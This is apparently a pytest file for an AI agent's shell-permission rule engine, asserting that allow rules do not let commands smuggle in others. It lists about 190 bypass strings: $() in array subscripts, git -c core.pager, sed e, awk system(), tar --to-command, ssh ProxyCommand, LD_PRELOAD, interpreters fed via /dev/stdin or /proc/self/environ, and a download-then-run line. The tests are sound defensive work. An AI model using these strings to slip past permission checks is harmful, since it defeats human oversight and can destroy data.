"""Attempts to run a second program under a rule about another one: by what bash computes, by options, by variables, by input."""

import pytest

from anycowork.domain.rules import Effect, Rule, RuleScope
from anycowork.domain.tool_ports import Prepared
from anycowork.domain.tools import Intent
from anycowork.permissions.resources import AccessedResources, resources_of
from anycowork.permissions.rule_proposals import proposed_rule
from anycowork.permissions.rules import RuleDecision, RuleIndex, decide
from support.attempts import Attempts
from support.spec import proves
from support.toolspecs import SPECS

ROOT = "/home/ann/project"
VERBS = (
    "ls cat echo printf test [ git find sed awk tar ssh scp rsync make xargs env timeout nice sort split vim less tee curl wget npm python "
    "python3 node rg fd pytest cargo go docker eslint zip install read let declare unset mapfile wait export tool cd"
)

# Each runs `rm`, or a program of the attacker's choice, while its first word is one that a person has allowed with ` *`.
RUNS_ANOTHER = {
    "here-document with backticks": "ls <<E\n`rm x`\nE",
    "here-document with a substitution": "cat <<E\n$(rm x)\nE",
    "here-string before a new line": "ls <<<$\nrm x",
    "subscript in printf -v": "printf -v 'a[$(rm x)]' 1",
    "subscript in test -v": "test -v 'a[$(rm x)]'",
    "subscript in [ -v": "[ -v 'a[$(rm x)]' ]",
    "subscript in [[ -v": "[[ -v 'a[$(rm x)]' ]]",
    "subscript in read": "read 'a[$(rm x)]' <<< 1",
    "subscript in let": "let 'a[$(rm x)]=1'",
    "subscript in declare": "declare 'a[$(rm x)]=1'",
    "subscript in unset": "unset 'a[$(rm x)]'",
    "subscript in (( ))": "((a[$(rm x)]))",
    "subscript in mapfile": "mapfile -t 'a[$(rm x)]' < f",
    "subscript in wait -p": "wait -n -p 'a[$(rm x)]'",
    "operator from a variable": 'test "$X" "$Y"',
    "printf that sets PATH": "printf %n PATH; ls",
    "git grep -O": "git grep -Orm x",
    "git grep with an abbreviated option": "git grep --op=rm x",
    "git fetch with an abbreviated option": "git fetch --upload-p='rm x' .",
    "git fetch --upload-pack": "git fetch --upload-pack 'rm x' .",
    "git archive --exec": "git archive --remote=. --exec='rm x' HEAD",
    "git push --exec": "git push --exec='rm x' .",
    "git clone -u": "git clone -u 'rm x' . y",
    "git clone -c": "git clone -c core.fsmonitor='rm x' . y",
    "git clone from a helper": "git clone 'ext::sh -c rm' y",
    "git -c": "git -c core.pager='rm x' log",
    "git -c by its path": "/usr/bin/git -c core.pager='rm x' log",
    "git --config-env": "git --config-env=core.pager=X log",
    "git --exec-path": "git --exec-path=. log",
    "git rebase -x": "git rebase -x 'rm x' HEAD~1",
    "git rebase --ex": "git rebase --ex='rm x' HEAD~1",
    "git bisect run": "git bisect run rm x",
    "git submodule foreach": "git submodule foreach 'rm x'",
    "git difftool": "git difftool -y -x 'rm x'",
    "git filter-branch": "git filter-branch --tree-filter 'rm x'",
    "git config": "git config core.pager 'rm x'",
    "git diff to a file": "git diff --output=.git/hooks/pre-commit",
    "an alias of git": "git evil",
    "sed e": "sed '1e rm x' f",
    "sed e alone": "sed e f",
    "sed w": "sed 'w .bashrc' f",
    "sed s with e": "sed 's/.*/rm x/e' f",
    "sed s with another mark and e": "sed 's,.*,rm x,ge' f",
    "sed with brackets that hide the mark": "sed 's/[/]/x/e;/' f",
    "sed -f": "sed -f script f",
    "sed --file abbreviated": "sed --fi=script f",
    "sed -e joined": "sed -e1e f",
    "sed with a second -e": "sed -e p -e '1e rm x' f",
    "sed in a bundle": "sed -ne '1e rm x' f",
    "sed from a variable": 'sed "$X" f',
    "awk system": "awk 'BEGIN { system(\"rm x\") }'",
    "awk pipe": "awk '{ print | \"rm x\" }' f",
    "awk getline": "awk 'BEGIN { \"rm x\" | getline }'",
    "awk redirection": "awk '{ print > \".bashrc\" }' f",
    "awk -f": "awk -f script f",
    "awk extension": "awk -l evil 1",
    "find -exec": "find . -exec evil {} +",
    "find -execdir": "find . -execdir evil ;",
    "find -ok": "find . -ok evil ;",
    "find -delete": "find . -delete",
    "find -fprintf": "find . -fprintf .bashrc x",
    "tar -I": "tar -I 'rm x' -cf y .",
    "tar in a bundle": "tar cIf 'rm x' y .",
    "tar --use-compress-program abbreviated": "tar --use-c='rm x' -cf y .",
    "tar --to-command": "tar xf y --to-command='rm x'",
    "tar --checkpoint-action": "tar cf y . --checkpoint=1 --checkpoint-action=exec='rm x'",
    "tar with an archive on a host": "tar -cf evil:y --rsh-command=rm .",
    "tar with a host alone": "tar -cf evil:y .",
    "tar -F": "tar -cf y -F 'rm x' -L 1 .",
    "ssh ProxyCommand": "ssh -o ProxyCommand='rm x' h",
    "ssh ProxyCommand joined": "ssh -oProxyCommand=rm h",
    "ssh -F": "ssh -F evil h",
    "scp -S": "scp -S evil a h:b",
    "scp -o": "scp -oProxyCommand=rm a h:b",
    "rsync -e": "rsync -e 'rm x' a h:b",
    "rsync -e in a bundle": "rsync -ae 'rm x' a h:b",
    "rsync --rsh abbreviated": "rsync --rs='rm x' a h:b",
    "rsync --rsync-path": "rsync --rsync-path='rm x' a h:b",
    "make SHELL": "make SHELL=./evil all",
    "make --eval": "make --eval='$(shell rm x)'",
    "make --eval behind an optional value": "make -j --eval='$(shell rm x)'",
    "make -f": "make -f evil.mk",
    "sort --compress-program": "sort --compress-program=./evil -S 1 f",
    "sort --compress-program abbreviated": "sort --comp=./evil f",
    "split --filter": "split --filter='rm x' f",
    "vim -c": "vim -c '!rm x'",
    "vim +": "vim '+!rm x'",
    "less +": "less '+!rm x' f",
    "curl -K": "curl -K evil",
    "wget --use-askpass": "wget --use-askpass=./evil h",
    "wget -e": "wget -e use_askpass=./evil h",
    "npm exec": "npm exec evil",
    "npm --script-shell": "npm test --script-shell=./evil",
    "npm words for a script": "npm test -- --config=evil",
    "npm from elsewhere": "npm --prefix evil test",
    "python -c": "python -c 'import os; os.remove(\"x\")'",
    "python -c in a bundle": "python -Bc 'import os'",
    "python from its input": "echo 'import os' | python",
    "python - from its input": "echo 'import os' | python3 -",
    "node -e": "node -e 'x'",
    "node -r": "node -r ./evil x.js",
    "rg --pre": "rg --pre ./evil x",
    "fd -x": "fd -x rm",
    "pytest -p": "pytest -p evil",
    "cargo --config": "cargo --config build.rustc='./evil' build",
    "go -toolexec": "go build -toolexec ./evil",
    "go test -exec": "go test -exec ./evil",
    "docker run": "docker run -v /:/h x rm",
    "eslint --rulesdir": "eslint --rulesdir evil .",
    "zip -TT": "zip -T -TT 'rm x' y a",
    "install --strip-program": "install -s --strip-program=./evil a b",
    "a file's name that is an option": "git grep x *",
    "a variable that is an option": "git grep $X",
    "a quoted variable that is an option": 'git grep "$X"',
    "xargs that gives options": "echo -Orm | xargs git grep x",
    "xargs with a program": "ls | xargs rm",
    "PAGER": "PAGER='rm x' git log",
    "GIT_SSH_COMMAND": "GIT_SSH_COMMAND='rm x' git fetch",
    "GIT_EXTERNAL_DIFF by env": "env GIT_EXTERNAL_DIFF=./evil git diff",
    "LD_PRELOAD": "LD_PRELOAD=./evil.so ls",
    "BASH_ENV": "BASH_ENV=./evil ls",
    "PATH": "PATH=. ls",
    "exported variable": "export GIT_PAGER='rm x'; git log",
    "variable that was exported before": "PAGER='rm x'; git log",
    "HOME": "HOME=evil git log",
    "busybox": "busybox rm x",
    "an unknown program's option": "tool --exec=rm",
    "an unknown program's input": "echo rm | tool",
    "brace expansion": "git {grep,-Orm,x}",
    "history expansion": "bash -ic '!rm'",
    "tilde": "~/rm x",
    "extended glob": "ls @(a|$(rm x))",
    "dollar-quoted": "git $'grep' $'-Orm' x",
    "process substitution": "cat <(rm x)",
    "alias": "alias ls=rm; ls x",
    "function": "ls() { rm x; }; ls",
    "trap": "trap 'rm x' EXIT",
    "coproc": "coproc rm x",
    "exec": "exec rm x",
    "time with a variable": "time PATH=. ls",
}  # fmt: skip


@proves("APR-2", "APR-3")
@pytest.mark.parametrize("text", RUNS_ANOTHER.values(), ids=RUNS_ANOTHER.keys())
def test_no_rule_with_a_star_lets_it_run_another_program(text: str) -> None:
    rules = [_rule(Effect.ALLOW, f"{verb} *") for verb in VERBS.split()]
    assert _decide(text, *rules).effect is Effect.ASK


# `tool` and the scripts of a package may do anything without being told: what a rule denies cannot be seen in these words.
DO_ANYTHING = ("an unknown program's option", "npm words for a script")


@proves("APR-2", "APR-3")
@pytest.mark.parametrize("name", [name for name in RUNS_ANOTHER if name not in DO_ANYTHING])
def test_a_rule_that_denies_still_bites_under_a_rule_that_allows_everything(name: str) -> None:
    denied = [_rule(Effect.DENY, f"{program} *") for program in ("rm", "evil", "./evil")]
    assert _decide(RUNS_ANOTHER[name], _rule(Effect.ALLOW, "*"), *denied).effect is not Effect.ALLOW


INTERPRETERS = (
    "bash", "sh", "dash", "zsh", "ksh", "ash", "rbash", "/bin/bash", "../../bin/sh", "busybox sh", "env bash", "env -u X dash",
    "X=1 bash", "nohup bash", "timeout 5 bash", "time bash", "nice -n 5 sh", "command bash", "sudo bash", "stdbuf -oL bash",
    "bash -x", "bash --norc", "python3", "python", "python3.12", "/usr/bin/python3", "python3 -u", "pypy3", "perl", "perl5.36", "ruby", "node",
    "php", "lua", "lua5.4", "tclsh", "Rscript", "julia", "fish", "csh", "pwsh", "guile", "unknown-language",
)  # fmt: skip
# Each makes the interpreter run words that stand in no file that lies there already; `{}` is the interpreter.
NO_PLAIN_SCRIPT = {
    "stdin by name": "{} /dev/stdin <<< 'rm x'",
    "descriptor by name": "{} /dev/fd/0 <<< 'rm x'",
    "descriptor in proc": "{} /proc/self/fd/0 <<< 'rm x'",
    "descriptor of a thread": "{} /proc/thread-self/fd/0 <<< 'rm x'",
    "another descriptor": "{} /dev/fd/3 3< f",
    "two slashes": "{} //dev//stdin <<< 'rm x'",
    "around a corner": "{} /usr/../dev/stdin <<< 'rm x'",
    "up": "{} ../../../dev/stdin <<< 'rm x'",
    "stdin alone": "{} /dev/stdin",
    "the environment": "{} /proc/self/environ",
    "the environment around a corner": "{} /usr/../proc/self/environ",
    "the environment from above": "{} ../../../proc/self/environ",
    "a here-string": "{} <<< 'rm x'",
    "a here-document": "{} <<'E'\nrm x\nE",
    "a here-document and a name": "{} /dev/stdin <<'E'\nrm x\nE",
    "a file": "{} < f",
    "a pipe": "echo 'rm x' | {}",
    "a pipe and a name": "echo 'rm x' | {} /dev/stdin",
    "a pipe and a dash": "echo 'rm x' | {} -",
    "the end of three": "cat f | tr a b | {}",
    "a script that may be a link": "{} script <<< 'rm x'",
    "a link that was just made": "ln -s /dev/stdin link; {} link <<< 'rm x'",
    "a variable": '{} "$X"',
    "process substitution": "{} <(echo rm x)",
    "a script that was just written": "echo 'rm x' > s; {} s",
    "one written in another spelling": "echo 'rm x' > ./a/../s; {} s",
    "one written by tee": "tee s <<< 'rm x'; {} s",
    "one copied": "cp f s && {} s",
    "one loaded": "curl -o s example.org; {} s",
    "one written above": "echo 'rm x' > s; cd sub; {} ../s",
    "one written below": "echo 'rm x' > sub/s; cd sub; {} s",
    "one written in a folder that was left": "cd sub; echo 'rm x' > s; cd ..; {} sub/s",
    "one written before a folder that is not there": "echo 'rm x' > s; cd none || true; {} s",
    "one written by dd": "dd if=f of=s; {} s",
    "one changed in place": "sed -i s/a/rm/ s; {} s",
    "one sorted": "sort -o s f; {} s",
    "a device from its folder": "cd /proc/self && {} environ",
    "a device from the root": "cd /; {} dev/stdin",
    "a device from far above": "cd .. && cd ../.. && {} proc/self/environ",
    "a device behind a folder that was not entered": "cd /dev/fd; false && cd /tmp; {} 0",
    "a device behind a link that was just made": "ln -s /proc/self p; cd p; {} environ",
    "a device behind many folders": "cd a; cd b; cd c; cd d; cd e; {} s",
    "a pipe with a name": "mkfifo p; {} p | echo 'rm x' > p",
    "by xargs": "echo f | xargs {}",
    "by find": "find . -maxdepth 0 -exec {} ';' <<< 'rm x'",
    "by find and a name": "find . -maxdepth 0 -exec {} /dev/stdin ';' <<< 'rm x'",
}  # fmt: skip


RUNS_A_FILE = frozenset({
    "a variable", "a script that was just written", "one written in another spelling", "one written by tee", "one copied", "one loaded",
    "one written above", "one written below", "one written in a folder that was left", "one written before a folder that is not there",
    "one written by dd", "one changed in place", "one sorted", "a device from its folder", "a device from the root",
    "a device from far above", "a device behind a folder that was not entered", "a device behind a link that was just made",
    "a device behind many folders",
    "a pipe with a name", "by xargs", "stdin alone", "the environment", "the environment around a corner", "the environment from above",
})  # fmt: skip


@proves("APR-2", "APR-3")
@pytest.mark.parametrize("way", NO_PLAIN_SCRIPT)
def test_what_an_interpreter_reads_passes_no_rule_that_denies(way: str, attempts: Attempts) -> None:
    def attempt(interpreter: str) -> None:
        text = NO_PLAIN_SCRIPT[way].replace("{}", interpreter)
        for effect in (Effect.DENY, Effect.ASK):
            assert _decide(text, _rule(Effect.ALLOW, "*"), _rule(effect, "rm *")).effect is not Effect.ALLOW, text

    unknown = {"unknown-language"} if way in RUNS_A_FILE else set()  # nothing says that this program runs a file
    attempts.every([name for name in INTERPRETERS if name not in unknown], attempt)


@pytest.mark.parametrize(
    "text", ["bash build.sh", "python3 -m pytest -q", "python3 tools/gen.py out.txt", "node x.js", "echo x > s; cat s", "sh -e run.sh a b",
             "cp a b && cat b", "cat f | sort | uniq -c", "python3.12 x.py", "perl -w x.pl", "./run.sh --fast",
             "cd sub && python3 x.py", "cd /srv/a && bash b.sh /dev/null",
             "cp -r a b && cd b && python3 x.py", "cd .. && ./run.sh", "cd a && cd b && node x.js"]
)  # fmt: skip
def test_a_script_that_lies_there_is_an_ordinary_program(text: str) -> None:
    assert _decide(text, _rule(Effect.ALLOW, "*"), _rule(Effect.DENY, "rm *")).effect is Effect.ALLOW


def test_a_program_that_the_same_line_makes_passes_no_rule_that_denies() -> None:
    rules = (_rule(Effect.ALLOW, "*"), _rule(Effect.DENY, "rm *"))
    assert _decide("echo 'rm x' > s; chmod +x s; ./s", *rules).effect is Effect.ASK
    assert _decide("cp f bin/tool && bin/tool", *rules).effect is Effect.ASK
    assert _decide("cp f bin/tool && cd bin && ./tool", *rules).effect is Effect.ASK
    assert _decide("cd bin && cp ../f tool; cd ..; bin/tool", *rules).effect is Effect.ASK


@pytest.mark.parametrize(
    "text", ["printf x > conftest.py; pytest", "echo x > Makefile && make", "echo x > package.json; npm test",
             "echo x > setup.py && pip install .", "echo x > Cargo.toml && cargo build"]
)  # fmt: skip
def test_a_build_or_test_runner_counts_by_its_own_words(text: str) -> None:
    """A limit: which files such a program obeys is not known, so a rule that denies what they run does not hold it."""
    rules = (_rule(Effect.ALLOW, "*"), _rule(Effect.ALLOW, "/**"), _rule(Effect.DENY, "rm *"))
    assert _decide(text, *rules).effect is Effect.ALLOW


@proves("APR-2")
@pytest.mark.parametrize(
    "text",
    ["pytest -q", "npm test", "make build", "ls -la", "git status", "tool --flag x", "git grep -O x", "FOO=1 make", "python -c 'print(1)'",
     "sed 1e f", "cargo build && cargo test -- --nocapture", "cat f | tool -x", "echo \"$HOME\" > out.txt"],
)  # fmt: skip
def test_always_proposes_exactly_these_words_and_allows_them_again(text: str) -> None:
    proposed = proposed_rule(_command(text), ROOT)
    assert proposed is not None and proposed["resource"] == text
    words = _rule(Effect.ALLOW, text)
    files = _rule(Effect.ALLOW, "/out.txt")
    assert _decide(text, words, files).effect is Effect.ALLOW
    assert _decide(f"{text} more", words, files).effect is Effect.ASK
    assert _decide(f"echo x | {text}; rm x", words, files).effect is Effect.ASK


def test_exact_words_of_an_unknown_program_do_not_allow_giving_it_input() -> None:
    rules = (_rule(Effect.ALLOW, "tool"), _rule(Effect.ALLOW, "echo *"))
    assert _decide("tool && echo x", *rules).effect is Effect.ALLOW
    assert _decide("echo x | tool", *rules).effect is Effect.ASK
    assert _decide("tool <<'E'\nrm x\nE", *rules).effect is Effect.ASK
    dressed = (*rules, _rule(Effect.ALLOW, "CI=1 tool"), _rule(Effect.ALLOW, "env tool"))
    assert _decide("CI=1 tool && env tool", *dressed).effect is Effect.ALLOW
    assert _decide("echo x | CI=1 tool", *dressed).effect is Effect.ASK
    assert _decide("echo x | env tool", *dressed).effect is Effect.ASK


def _rule(effect: Effect, pattern: str) -> Rule:
    return Rule(f"{effect} {pattern}", "execute_command", pattern, effect, RuleScope.GLOBAL)


def _command(text: str) -> AccessedResources:
    prepared = Prepared("execute_command", {}, f"command:{text}", Intent(command=text))
    return resources_of(prepared, SPECS["execute_command"], ROOT)


def _decide(text: str, *rules: Rule) -> RuleDecision:
    return decide(_command(text), RuleIndex(rules), default=RuleDecision(Effect.ASK, None, "No rule covers it."))
